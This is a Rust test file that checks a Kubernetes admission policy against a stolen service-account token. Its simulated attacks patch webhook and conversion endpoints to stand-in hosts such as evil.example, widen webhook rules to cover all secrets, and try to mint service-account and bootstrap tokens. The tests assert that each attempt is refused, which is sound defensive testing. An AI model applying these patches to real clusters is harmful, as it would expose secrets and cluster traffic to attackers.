//! The admission policy: what a stolen token of a service account of `config/` cannot do.

mod release;

use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};

use k8s_openapi::{
    api::{
        admissionregistration::v1::ValidatingWebhookConfiguration,
        core::v1::{Namespace, Pod, Secret},
    },
    apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition,
};
use kube::{
    Api,
    api::{Patch, PatchParams, PostParams},
};
use reknit::{
    injection::{Permission, Verb},
    prelude::*,
    testing::{ControlPlane, eventually},
};
use serde_json::{Value, json};

use self::release::Release;
use crate::{
    manifests::{SYSTEM_NAMESPACE, TIMEOUT, TestResult, by_name, kubectl, kustomize, layer},
    webhook::refusal,
};

/// The beginning of a refusal by the policy.
const POLICY: &str = "ValidatingAdmissionPolicy";

#[tokio::test(flavor = "multi_thread")]
async fn a_stolen_token_yields_neither_another_account_nor_the_objects_of_others() -> TestResult {
    let plane = ControlPlane::start().await?;
    let folder = layer(&plane, "layer", "namespace: elsewhere\nnameSuffix: -dev\n")?;
    kubectl(&plane, &["apply", "-k", "config"])?;
    kubectl(&plane, &["apply", "-k", &folder])?;
    for (folder, namespace, suffix) in [("config", SYSTEM_NAMESPACE, ""), (&folder, "elsewhere", "-dev")] {
        let release = Release { plane: &plane, namespace, suffix };
        release.wait_for_policy().await?;
        release.register(&kubectl(&plane, &["kustomize", folder])?).await?;
        // RBAC refuses every write of the webhook.
        for (account, text) in [("controller", POLICY), ("webhook", "cannot")] {
            assert_eq!(release.changed(account, text).await?, [""; 0], "{account} in {namespace}");
        }
        release.assert_owner_stays().await?;
        release.delete_secret().await?;
        for (account, text) in [("controller", POLICY), ("webhook", "cannot")] {
            assert_eq!(release.created(account, text).await?, [""; 0], "{account} in {namespace}");
        }
    }
    Ok(())
}

/// The API server accepts the token of a deleted account for some ten seconds.
#[tokio::test(flavor = "multi_thread")]
async fn the_policy_bounds_the_token_of_a_deleted_account_for_as_long_as_it_is_accepted() -> TestResult {
    let plane = ControlPlane::start().await?;
    kubectl(&plane, &["apply", "-k", "config"])?;
    kubectl(&plane, &["apply", "-k", "config/shadow"])?;
    let release = Release { plane: &plane, namespace: SYSTEM_NAMESPACE, suffix: "" };
    release.wait_for_policy().await?;
    let client = release.client("controller").await?;
    let secrets: Api<Secret> = Api::namespaced(client.clone(), SYSTEM_NAMESPACE);
    let token = json!({
        "metadata": {"name": "webhook-certs", "annotations": {"kubernetes.io/service-account.name": "webhook"}},
        "type": "kubernetes.io/service-account-token",
    });
    let token: Secret = serde_json::from_value(token)?;
    let configurations: Api<ValidatingWebhookConfiguration> = Api::all(client);
    let everything =
        json!([{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["secrets"]}]);
    let stolen = Patch::Json::<()>(serde_json::from_value(json!([
        {"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://evil.example/x"}},
        {"op": "add", "path": "/webhooks/0/rules", "value": everything},
    ]))?);
    let pods: Api<Pod> = Api::namespaced(release.client("controller-shadow").await?, "default");
    let pod =
        json!({"metadata": {"generateName": "x"}, "spec": {"containers": [{"name": "x", "image": "x"}]}});
    let pod: Pod = serde_json::from_value(pod)?;
    let (create, patch) = (PostParams::default(), PatchParams::default());
    let configuration = release.configuration("config");
    let attack = async || {
        [
            refusal(secrets.create(&create, &token).await),
            refusal(configurations.patch(&configuration, &patch, &stolen).await),
            refusal(pods.create(&create, &pod).await),
        ]
    };
    let is_bounded = |refusals: &[String]| refusals.iter().all(|refusal| refusal.contains(POLICY));
    eventually("the policies", TIMEOUT, async || {
        let refusals = attack().await;
        if is_bounded(&refusals) { Ok(()) } else { Err(format!("{refusals:?}")) }
    })
    .await;
    kubectl(
        &plane,
        &["delete", "serviceaccount", "controller", "controller-shadow", "--namespace", SYSTEM_NAMESPACE],
    )?;
    let bounded = AtomicUsize::new(0);
    eventually("the refusal of the tokens", TIMEOUT, async || {
        let refusals = attack().await;
        let is_over = |refusal: &String| refusal.contains("Unauthorized");
        let open = refusals.iter().filter(|refusal| !refusal.contains(POLICY) && !is_over(refusal));
        assert_eq!(open.collect::<Vec<_>>(), [""; 0]);
        bounded.fetch_add(usize::from(is_bounded(&refusals)), Relaxed);
        if refusals.iter().all(is_over) { Ok(()) } else { Err(format!("{refusals:?}")) }
    })
    .await;
    assert!(bounded.into_inner() > 0, "the API server has accepted no token of a deleted account");
    Ok(())
}

/// A policy sees what the mutating steps made of the object, so that their labels seem to be the account's.
#[tokio::test(flavor = "multi_thread")]
async fn the_secret_is_written_if_another_admission_step_labels_and_annotates_it() -> TestResult {
    let plane = ControlPlane::start().await?;
    kubectl(&plane, &["apply", "-k", "config"])?;
    let release = Release { plane: &plane, namespace: SYSTEM_NAMESPACE, suffix: "" };
    release.wait_for_policy().await?;
    let name = release.secret();
    let secrets: Api<Secret> = Api::namespaced(release.client("controller").await?, SYSTEM_NAMESPACE);
    let stamped = |label: &str, operation: &str| {
        let metadata = json!({"name": name, "labels": {"team": label}, "annotations": {"last": operation}});
        json!({ "metadata": metadata, "data": { "x": "" } })
    };
    let patch = async |label: &str| {
        let patch = Patch::Merge(stamped(label, &format!("UPDATE {label}")));
        secrets.patch(&name, &PatchParams::default(), &patch).await
    };
    patch("a").await?;
    patch("b").await?;
    release.delete_secret().await?;
    secrets.create(&PostParams::default(), &serde_json::from_value(stamped("a", "CREATE"))?).await?;
    patch("b").await?;
    let message = refusal(
        secrets
            .patch(&name, &PatchParams::default(), &Patch::Merge(json!({"metadata": {"annotations": null}})))
            .await,
    );
    assert!(message.contains(POLICY), "{message}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_conversion_of_a_definition_is_bounded_too() -> TestResult {
    let plane = ControlPlane::start().await?;
    kubectl(&plane, &["apply", "-k", "config"])?;
    let release = Release { plane: &plane, namespace: SYSTEM_NAMESPACE, suffix: "" };
    release.wait_for_policy().await?;
    // The Kinds of the sample have one version, so that its controller may not patch their definitions.
    plane.apply_yaml(PATCH_DEFINITIONS).await?;
    let name = "addressableservices.samples.knative.dev";
    let service = json!({"name": "webhook", "namespace": SYSTEM_NAMESPACE});
    let webhook = json!({"conversionReviewVersions": ["v1"], "clientConfig": {"service": service}});
    let conversion = json!({"spec": {"conversion": {"strategy": "Webhook", "webhook": webhook}}});
    let admin: Api<CustomResourceDefinition> = Api::all(plane.client()?);
    admin.patch(name, &PatchParams::default(), &Patch::Merge(conversion)).await?;

    let definitions: Api<CustomResourceDefinition> = Api::all(release.client("controller").await?);
    let patch = async |spec: Value| {
        let patch = Patch::Merge(json!({ "spec": spec }));
        definitions.patch(name, &PatchParams { dry_run: true, ..PatchParams::default() }, &patch).await
    };
    let client = |client_config: Value| json!({"conversion": {"webhook": {"clientConfig": client_config}}});
    for (what, spec) in [
        ("a foreign server", client(json!({"service": null, "url": "https://evil.example.com/"}))),
        ("a foreign Service", client(json!({"service": {"name": "evil"}}))),
        ("another path", client(json!({"service": {"path": "/evil"}}))),
        ("other versions", json!({"conversion": {"webhook": {"conversionReviewVersions": ["v1", "v2"]}}})),
        ("no conversion", json!({"conversion": {"strategy": "None", "webhook": null}})),
        ("another name", json!({"names": {"shortNames": ["evil"]}})),
        ("no objects stored", json!({"preserveUnknownFields": null, "scope": "Cluster"})),
    ] {
        let message = refusal(patch(spec).await);
        let is_refused = message.contains(POLICY) || message.contains("field is immutable");
        assert!(is_refused, "{what}: {message}");
    }
    let owner = json!({"apiVersion": "v1", "kind": "Namespace", "name": SYSTEM_NAMESPACE, "uid": "gone"});
    let owned = Patch::Merge(json!({"metadata": {"ownerReferences": [owner]}}));
    let message = refusal(definitions.patch(name, &PatchParams::default(), &owned).await);
    assert!(message.contains(POLICY), "{message}");
    let kubeconfig = kubectl(&plane, &["config", "view", "--raw", "--flatten", "--output=json"])?;
    let kubeconfig: Value = serde_json::from_str(&kubeconfig)?;
    let ca = &kubeconfig["clusters"][0]["cluster"]["certificate-authority-data"];
    let bundle = json!({"caBundle": ca, "service": {"path": "/resource-conversion"}});
    patch(client(bundle)).await?;
    Ok(())
}

/// Its roles do not let the account create one, but those that a user adds may.
#[tokio::test(flavor = "multi_thread")]
async fn a_configuration_and_a_definition_are_not_created_and_keep_what_others_have_set() -> TestResult {
    let plane = ControlPlane::start().await?;
    kubectl(&plane, &["apply", "-k", "config"])?;
    let release = Release { plane: &plane, namespace: SYSTEM_NAMESPACE, suffix: "" };
    release.wait_for_policy().await?;
    plane.apply_yaml(CREATE_DEFINITIONS).await?;
    let client = release.client("controller").await?;
    let dry_run = PostParams { dry_run: true, ..PostParams::default() };
    let configurations: Api<ValidatingWebhookConfiguration> = Api::all(client.clone());
    let new = serde_json::from_value(json!({"metadata": {"name": "new"}}))?;
    let message = refusal(configurations.create(&dry_run, &new).await);
    assert!(message.contains(POLICY), "{message}");
    let definitions: Api<CustomResourceDefinition> = Api::all(client);
    let mut new = Api::<CustomResourceDefinition>::all(plane.client()?)
        .get("addressableservices.samples.knative.dev")
        .await?;
    new.metadata = serde_json::from_value(json!({"name": "others.samples.knative.dev"}))?;
    (new.spec.names.plural, new.spec.names.kind) = ("others".into(), "Other".into());
    (new.spec.names.singular, new.spec.names.list_kind) = (None, None);
    let message = refusal(definitions.create(&dry_run, &new).await);
    assert!(message.contains(POLICY), "{message}");

    let name = release.configuration("config");
    let all: Api<ValidatingWebhookConfiguration> = Api::all(plane.client()?);
    let params = PatchParams::default();
    let expressions = "/webhooks/0/namespaceSelector/matchExpressions";
    let of_others = Patch::Json::<()>(serde_json::from_value(json!([
        {"op": "add", "path": "/metadata/finalizers", "value": ["example.com/keep"]},
        {"op": "add", "path": format!("{expressions}/0"), "value": {"key": "team", "operator": "Exists"}},
    ]))?);
    all.patch(&name, &params, &of_others).await?;
    let remove = |path: &str| serde_json::from_value(json!([{"op": "remove", "path": path}]));
    let owned = |kind: &str, name: &str, version: &str| {
        let owner = json!({"apiVersion": version, "kind": kind, "name": name, "uid": "gone"});
        Patch::Merge(json!({"metadata": {"ownerReferences": [owner]}}))
    };
    let blocking = json!({"apiVersion": "v1", "kind": "Namespace", "name": SYSTEM_NAMESPACE, "uid": "gone",
        "blockOwnerDeletion": true});
    for (what, patch) in [
        ("no finalizer", Patch::Merge(json!({"metadata": {"finalizers": null}}))),
        ("another namespace as the owner", owned("Namespace", "default", "v1")),
        ("an owner of another Kind", owned("ConfigMap", SYSTEM_NAMESPACE, "v1")),
        ("an owner of another version", owned("Namespace", SYSTEM_NAMESPACE, "v2")),
        ("an owner that blocks", Patch::Merge(json!({"metadata": {"ownerReferences": [blocking]}}))),
        ("no label", Patch::Json(remove("/webhooks/0/namespaceSelector/matchLabels")?)),
        ("no expression of others", Patch::Json(remove(&format!("{expressions}/0"))?)),
    ] {
        let message = refusal(configurations.patch(&name, &params, &patch).await);
        assert!(message.contains(POLICY), "{what}: {message}");
    }

    let (name, url) = (release.configuration("validation"), "https://hooks.example.com/resource-validation");
    let at = |url: &str| {
        let client = json!([{"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": url}}]);
        serde_json::from_value(client).map(Patch::Json::<()>)
    };
    all.patch(&name, &params, &at(url)?).await?;
    for other in
        ["https://evil.example.com/resource-validation", &format!("{url}/evil"), "https://hooks.example.com/"]
    {
        let message = refusal(configurations.patch(&name, &params, &at(other)?).await);
        assert!(message.contains(POLICY), "{other}: {message}");
    }
    Ok(())
}

/// A controller that writes Secrets, in a program without a webhook.
struct Keeper;

impl ReconcileKind for Keeper {
    type Kind = Namespace;

    async fn reconcile_kind(&self, _: &Namespace, _: &mut ()) -> Result<Outcome> {
        Ok(Outcome::done())
    }
}

fn keeper(cx: &Context) -> Result<Controller> {
    let mut build = Controller::of::<Namespace>(cx);
    build.allows(Permission::of::<Secret>([Verb::Create, Verb::Patch]));
    Ok(build.reconciler(Keeper).build())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_program_without_a_webhook_writes_secrets_but_no_tokens() -> TestResult {
    let plane = ControlPlane::start().await?;
    let manifests = Main::new("keeper")
        .controller(keeper)
        .rbac("default")
        .to_yaml()
        .map_err(|error| error.to_string())?;
    plane.apply_yaml(&manifests).await?;
    let secrets: Api<Secret> = Api::namespaced(plane.client_as("default", "keeper").await?, "kube-system");
    let create = async |secret: Value| {
        let dry_run = PostParams { dry_run: true, ..PostParams::default() };
        Ok::<_, serde_json::Error>(secrets.create(&dry_run, &serde_json::from_value(secret)?).await)
    };
    let account = json!({"kubernetes.io/service-account.name": "default"});
    let token = json!({"metadata": {"name": "token", "annotations": account}, "type": "kubernetes.io/service-account-token"});
    eventually("a refusal by the policy", TIMEOUT, async || {
        let message = refusal(create(token.clone()).await.map_err(|error| error.to_string())?);
        if message.contains(POLICY) { Ok(()) } else { Err(message) }
    })
    .await;
    let bootstrap =
        json!({"metadata": {"name": "bootstrap-token-abcdef"}, "type": "bootstrap.kubernetes.io/token"});
    let message = refusal(create(bootstrap).await?);
    assert!(message.contains(POLICY), "{message}");
    create(json!({"metadata": {"name": "keys"}})).await??;
    Ok(())
}

const CREATE_DEFINITIONS: &str =
    "{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: create},
  rules: [{apiGroups: [apiextensions.k8s.io], resources: [customresourcedefinitions], verbs: [create]},
    {apiGroups: [admissionregistration.k8s.io], resources: [validatingwebhookconfigurations], verbs: [create]}]}
---
{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: create},
  subjects: [{kind: ServiceAccount, name: controller, namespace: knative-samples}],
  roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: create}}";

const PATCH_DEFINITIONS: &str =
    "{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: patch},
  rules: [{apiGroups: [apiextensions.k8s.io], resources: [customresourcedefinitions], verbs: [patch]}]}
---
{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: patch},
  subjects: [{kind: ServiceAccount, name: controller, namespace: knative-samples}],
  roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: patch}}";

#[tokio::test(flavor = "multi_thread")]
async fn the_policy_bounds_each_account_of_the_rendered_manifests() -> TestResult {
    let plane = ControlPlane::start().await?;
    let suffixed = layer(&plane, "layer", "namespace: elsewhere\nnamePrefix: my-\nnameSuffix: -dev\n")?;
    for folder in [
        "config",
        "config/shadow",
        "overlays/development",
        "overlays/egress",
        "overlays/monitoring",
        "overlays/one-namespace",
        &*suffixed,
    ] {
        let objects = by_name(kustomize(&plane, folder)?)?;
        let of_kind = |kind: &'static str| {
            objects
                .iter()
                .filter(move |(name, _)| name.split(' ').next() == Some(kind))
                .map(|(_, object)| object)
        };
        let account = |deployment: &Value| {
            let name = deployment["spec"]["template"]["spec"]["serviceAccountName"].clone();
            (name, deployment["metadata"]["namespace"].clone())
        };
        // The account of the ClusterRoleBinding that is the parameter.
        let bound = |binding: &Value| {
            let param = &binding["spec"]["paramRef"];
            assert!(param["namespace"].is_null(), "{folder}: {binding}");
            let rights =
                of_kind("ClusterRoleBinding").find(|object| object["metadata"]["name"] == param["name"]);
            let subjects = rights.map_or(Value::Null, |rights| rights["subjects"].clone());
            (subjects[0]["name"].clone(), subjects[0]["namespace"].clone())
        };
        let accounts: Vec<_> = of_kind("Deployment").map(account).collect();
        let bindings: Vec<_> = of_kind("ValidatingAdmissionPolicyBinding").collect();
        assert!(
            !accounts.is_empty()
                && accounts.iter().all(|account| bindings.iter().any(|b| bound(b) == *account)),
            "{folder}: {accounts:?} {bindings:?}"
        );
        for binding in bindings {
            let is_account = |object: &Value| {
                (object["metadata"]["name"].clone(), object["metadata"]["namespace"].clone())
                    == bound(binding)
            };
            assert!(of_kind("ServiceAccount").any(is_account), "{folder}: {binding}");
            let policy = &binding["spec"]["policyName"];
            assert!(
                of_kind("ValidatingAdmissionPolicy").any(|object| object["metadata"]["name"] == *policy),
                "{folder}: {binding}"
            );
        }
    }
    Ok(())
}
